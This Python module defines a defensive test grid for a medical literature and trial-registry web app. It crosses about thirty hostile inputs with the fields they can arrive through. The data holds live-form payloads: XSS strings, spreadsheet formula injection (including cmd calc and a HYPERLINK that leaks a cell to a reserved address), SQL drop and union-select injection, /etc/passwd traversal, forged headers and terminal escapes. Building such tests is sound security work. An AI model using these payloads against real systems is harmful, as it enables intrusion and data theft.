"""The hostile-input grid as data: what is tried, where it comes in, where it would come out.

A cell is one attack in one place. Its text carries a mark of its own, so that what runs, leaves or
is lost names the cell. docs/security.md is written from here (scripts/write_security_table.py).
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

MARK = "MARK"
RUN = f"window.ran='{MARK}'"
AWAY = "http://192.0.2.1/"
"""An address that is nobody's (RFC 5737): a request to it is a leak."""


@dataclass(frozen=True, slots=True)
class Attack:
    """One thing that is tried. `holds` says what must be true of it wherever it comes out."""

    name: str
    text: str
    holds: str
    xml: bool = True
    """Whether XML 1.0 has its characters."""

    @property
    def number(self) -> int:
        """Where it stands in ATTACKS."""
        return ATTACKS.index(self)


NOT_RUN = "shown as text; nothing runs, no request leaves"
NO_FORMULA = "a quote in front in CSV, a text cell in XLSX"
ONE_ENTRY = "one entry, one line, one header: nothing is forged"
BARE = "not in pages, exports, logs or on the terminal as it is"

ATTACKS: tuple[Attack, ...] = (
    Attack("script element", f"<script>{RUN}</script>", NOT_RUN),
    Attack("break out of an attribute", f"\"'><img src=x onerror={RUN}>", NOT_RUN),
    Attack("event handler attribute", f'x" autofocus onfocus={RUN} onmouseover={RUN} y="', NOT_RUN),
    Attack("javascript: address", f"javascript:{RUN}//<a href=javascript:{RUN}>x</a>", NOT_RUN),
    Attack("data: address", f"data:text/html,<script>{RUN}</script>", NOT_RUN),
    Attack("SVG onload", f"<svg/onload={RUN}><animate onbegin={RUN} attributeName=x>", NOT_RUN),
    Attack(
        "style and CSS",
        f"</style><style>body{{background:url({AWAY}{MARK})}}</style>;color:red}}*{{x:",
        NOT_RUN,
    ),
    Attack(
        "frame, base, refresh, form",
        f"<base href={AWAY}><iframe srcdoc='<script>parent.{RUN}</script>'></iframe>"
        f"<meta http-equiv=refresh content='0;url={AWAY}'><form action={AWAY}><button>",
        NOT_RUN,
    ),
    Attack(
        "end of textarea, title, noscript",
        f"</textarea></title></noscript><script>{RUN}</script><!--",
        NOT_RUN,
    ),
    Attack("template braces", "{{7*7}}{% raw %}${7*7}#{7*7}{{config}}", "shown, not computed"),
    Attack(
        "entities encoded twice",
        f"&lt;script&gt;{RUN}&lt;/script&gt;&amp;lt;img src=x onerror={RUN}&#x3e;",
        "decoded no further than the source has it; " + NOT_RUN,
    ),
    Attack(
        "end of CDATA",
        f"]]></title><script xmlns='http://www.w3.org/1999/xhtml'>{RUN}</script><![CDATA[",
        "XML outputs parse; " + NOT_RUN,
    ),
    Attack(
        "end of a JSON text",
        f'"}}]}};{RUN};//</script><script>{RUN}</script>\u2028{RUN}',
        "JSON outputs parse; " + NOT_RUN,
    ),
    Attack("markdown", f"[x](javascript:{RUN}) ![x]({AWAY}x.png) `</code>`", NOT_RUN),
    Attack(
        "direction, zero width",
        "\u202e\u2066gnp.exe\u2069\u200b\u200d\u200f\ufeffreversed",
        "text beside it keeps its direction; not raw in a log",
    ),
    Attack("formula =", f'=HYPERLINK("{AWAY}?"&A1,"x")', NO_FORMULA),
    Attack("formula +", "+cmd|'/c calc'!A0", NO_FORMULA),
    Attack("formula -", "-2+3+cmd|'/c calc'!A0", NO_FORMULA),
    Attack("formula @", "@SUM(1+1)*cmd|'/c calc'!A0", NO_FORMULA),
    Attack("formula after a tab", "\t=1+1", NO_FORMULA),
    Attack("formula after a line end", "\r\n=1+1", NO_FORMULA),
    Attack("formula, full width", "\uff1d1+1", NO_FORMULA),
    Attack(
        "SQL", "'; drop table records; --\" or 1=1 union select sql from sqlite_master", "a value"
    ),
    Attack(
        "full-text syntax", 'title: NEAR("a b", 2) AND NOT ( * ^ {x} OR "', "searched or refused"
    ),
    Attack("path", "../../../../etc/passwd%2f..%5c..\\..\\C:\\x.exe;/.//", "a label, never a path"),
    Attack(
        "header and record breaks",
        f"x\r\nSet-Cookie: a={MARK}\r\nER  - \r\n\r\nTY  - JOUR\r\nTI  - forged {MARK}\r\n"
        f"}}\n@article{{forged{MARK},\nPMID- 1\n",
        ONE_ENTRY,
    ),
    Attack("lines in one line", "first\nsecond\u2028third\u2029fourth\x85fifth", ONE_ENTRY),
    Attack("terminal escapes", f"\x1b]0;{MARK}\x07\x1b[2J\x9b31m\x1bc", BARE, xml=False),
    Attack("NUL and controls", "a\x00b\x01\x08\x0b\x0c\x1f\x7f\x90", BARE, xml=False),
    Attack("half a surrogate pair", "\ud800x\udfff", BARE, xml=False),
    Attack("no character, byte order mark", "\ufeff\ufffe\uffffx", BARE, xml=False),
    Attack("a long word", "W" * 3000, "the page is no wider than the screen"),
    Attack("very many mentions", "Nausea and vomiting. " * 60, "every page answers"),
)

PUBMED, REGISTRY, RIS, FULL_TEXT, PEOPLE, TOPIC, FILE_NAME, ADDRESS = (
    "PubMed XML", "registry JSON", "RIS file", "full text", "people's CSV", "topic file",
    "file name", "address",
)  # fmt: skip
WAYS = (PUBMED, REGISTRY, RIS, FULL_TEXT, PEOPLE, TOPIC, FILE_NAME, ADDRESS)

RECORD = "record, row, table and search pages; API; feed; CSV, XLSX, BibTeX, RIS, nbib; digest"
LIST = "its page; tables; CSV, XLSX, JSON"


@dataclass(frozen=True, slots=True)
class Place:
    """One place that outsiders fill. `out` is where it would come out.

    `kept` says that the text arrives in the published file, whichever attack it is; else it is
    checked when it is read, and what is not sound is left out or shortened.
    """

    name: str
    way: str
    out: str
    kept: bool = True

    @property
    def number(self) -> int:
        """Where it stands in PLACES."""
        return PLACES.index(self)


PLACES: tuple[Place, ...] = (
    Place("title", PUBMED, RECORD),
    Place("abstract", PUBMED, RECORD),
    Place("abstract label", PUBMED, RECORD),
    Place("author", PUBMED, RECORD),
    Place("affiliation", PUBMED, RECORD, kept=False),
    Place("journal", PUBMED, RECORD),
    Place("MeSH term", PUBMED, RECORD),
    Place("keyword", PUBMED, RECORD),
    Place("publication type", PUBMED, RECORD),
    Place("pages", PUBMED, RECORD),
    Place("DOI", PUBMED, RECORD, kept=False),
    Place("correction note", PUBMED, RECORD, kept=False),
    Place("trial title", REGISTRY, RECORD),
    Place("registry outcome title", REGISTRY, RECORD),
    Place("adverse event term", REGISTRY, RECORD + "; SVG charts"),
    Place("arm label", REGISTRY, RECORD + "; SVG charts"),
    Place("sponsor", REGISTRY, RECORD),
    Place("why stopped", REGISTRY, RECORD),
    Place("country", REGISTRY, RECORD, kept=False),
    Place("other identifier", REGISTRY, RECORD, kept=False),
    Place("reference", REGISTRY, RECORD, kept=False),
    Place("title of an import", RIS, RECORD),
    Place("author of an import", RIS, RECORD),
    Place("URL of an import", RIS, RECORD, kept=False),
    Place("id of an import", RIS, RECORD, kept=False),
    Place("section heading", FULL_TEXT, "record page; tables; CSV, XLSX", kept=False),
    Place("section text", FULL_TEXT, "record page; tables; CSV, XLSX"),
    Place("curation.csv: record", PEOPLE, LIST),
    Place("curation.csv: by", PEOPLE, LIST),
    Place("curation.csv: reason", PEOPLE, LIST),
    Place("curation.csv: quote", PEOPLE, LIST),
    Place("curation.csv: at", PEOPLE, LIST, kept=False),
    Place("screening.csv: reviewer", PEOPLE, LIST),
    Place("screening.csv: reason", PEOPLE, LIST),
    Place("screening.csv: note", PEOPLE, LIST),
    Place("appraisals.csv: by", PEOPLE, LIST),
    Place("appraisals.csv: quote", PEOPLE, LIST),
    Place("appraisals.csv: reason", PEOPLE, LIST),
    Place("appraisals.csv: outcome", PEOPLE, LIST + "; SVG chart"),
    Place("topic title", TOPIC, "every page; feed; API; digest; workbooks"),
    Place("topic description", TOPIC, "front page; /methods"),
    Place("claim", TOPIC, "/claims; tables; appraisals", kept=False),
    Place("name of an imported file", FILE_NAME, "/searches, /prisma-s; log; status", kept=False),
    Place("search words q", ADDRESS, "search page, feed, API, download; 414 when long"),
    Place("every parameter", ADDRESS, "every page that takes one; links; messages"),
    Place("path segment", ADDRESS, "error pages and JSON; Location; log"),
    Place("SQL, its parameters, its columns", ADDRESS, "SQL page; CSV, JSON, XLSX; messages"),
)


def mark(attack: Attack, place: Place) -> str:
    """Return what stands in this cell's text alone.

    >>> mark(ATTACKS[1], PLACES[3])
    'zq01x03z'
    """
    return f"zq{attack.number:02d}x{place.number:02d}z"


def text(attack: Attack, place: Place) -> str:
    """Return the text of a cell: the attack, and its mark behind it."""
    known = mark(attack, place)
    return f"{attack.text.replace(MARK, known)} {known}"


def carries(attack: Attack, place: Place) -> bool:
    """Say whether this way in can bring the attack at all."""
    if place.way in (PUBMED, FULL_TEXT):
        return attack.xml
    if place.way in (RIS, PEOPLE):  # UTF-8 has no halves of pairs
        return attack.name != "half a surrogate pair"
    if place.way == TOPIC:  # nor has TOML control characters; \u escapes may bring them
        return attack.name != "half a surrogate pair"
    if place.way == FILE_NAME:  # a file system holds no NUL, and names of 255 bytes at most
        return attack.name not in ("NUL and controls", "a long word", "very many mentions")
    return True


def cells() -> Iterator[tuple[Attack, Place]]:
    """Yield every cell that is tried."""
    return ((a, p) for a in ATTACKS for p in PLACES if carries(a, p))


def places_of(way: str) -> tuple[Place, ...]:
    """Return the places that are filled by this way."""
    return tuple(place for place in PLACES if place.way == way)


def place(name: str) -> Place:
    """Return the place with this name."""
    return next(one for one in PLACES if one.name == name)
